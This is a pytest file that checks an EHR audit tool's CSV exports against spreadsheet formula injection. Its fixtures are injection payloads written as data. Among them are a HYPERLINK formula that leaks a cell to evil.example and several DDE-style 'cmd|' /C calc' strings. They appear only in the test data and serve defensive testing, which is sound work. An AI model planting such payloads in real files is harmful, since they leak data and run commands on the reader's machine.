"""An attacker who controls what an EHR export says (user ids, event ids, MRNs) and wants the privacy
officer's spreadsheet to run a formula when findings.csv is opened (CSV injection): every text cell
of every CSV the auditor writes must open as text. Through `auditor findings --format csv` (to a
file and to stdout) and `auditor report monthly` (findings.csv)."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from auditor.audit.events import AuditEvent
from auditor.home import create_home
from auditor.vault.gateway import AccessContext, PatientDemographics
from tests.conftest import FAST_SCRYPT
from tests.policy.vault_data import populate

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet reads as the start of a formula
USERS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "@SUM(1+1)*cmd|' /C calc'!A0",
         "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "nurse\r=1+1"]
EVENT_IDS = ["=1+1", "@A1", "-1", "+1", "\t=2", "\r=3", "ok\r@A1"]  # a bare \r would start a new row
MRN = "=HYPERLINK(\"http://evil.example\")"


@pytest.fixture
def home(tmp_path, clock):
    vault = create_home(tmp_path / "home", clock=clock, scrypt_n=FAST_SCRYPT)
    ids = populate(vault)
    ids.update(vault.gateway.register_patients(AccessContext.service("import"), [
        PatientDemographics(MRN, "Eve", "Vil", "1980-01-01", "F", "1 Any Road", "Boston", "MA", "02118")],
        source="ehr").ids)
    events = [AuditEvent(at=datetime(2026, 11, 9, 15, i, tzinfo=timezone.utc), action="view", user_id=user,
                         role="nurse", patient_id=ids[MRN if i % 2 else "P-OK"], source="ehr",
                         source_event_id=EVENT_IDS[i])
              for i, user in enumerate(USERS)]
    with vault.records.begin() as conn:
        appended = vault.audit_log.append(conn, events)
    vault.audit_log.after_commit(appended, len(events))
    vault.close()
    return tmp_path / "home"


def _cells(text: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and all(None not in row and None not in row.values() for row in rows)  # no row split
    return rows


def _assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    assert {row["user_id"] for row in rows} - {"n.muller"} == {"'" * user.startswith(FORMULA_STARTS) + user
                                                               for user in USERS}  # kept, as text
    assert "'" + MRN in {row["mrn"] for row in rows}
    assert {row["event_ids"] for row in rows} >= {"'" * e.startswith(FORMULA_STARTS) + e for e in EVENT_IDS}
    for row in rows:
        assert row["risk"].isdigit() and (row["case"] == "" or row["case"].isdigit())  # numbers stay numbers


def test_findings_csv_to_a_file_and_to_stdout(auditor, home, tmp_path):
    written = auditor("findings", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv",
                      "--out", str(tmp_path / "f.csv"), user="officer")
    assert written.code == 0, written.err
    _assert_no_formula(_cells((tmp_path / "f.csv").read_bytes().decode("utf-8")))
    printed = auditor("findings", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv", user="officer")
    assert printed.code == 0, printed.err
    _assert_no_formula(_cells(printed.out))


def test_the_monthly_reports_findings_csv(auditor, home, tmp_path):
    result = auditor("report", "monthly", "--month", "2026-11", "--no-pdf", "--out", str(tmp_path / "r"), user="officer")
    assert result.code == 0, result.err
    _assert_no_formula(_cells((tmp_path / "r" / "findings.csv").read_bytes().decode("utf-8")))
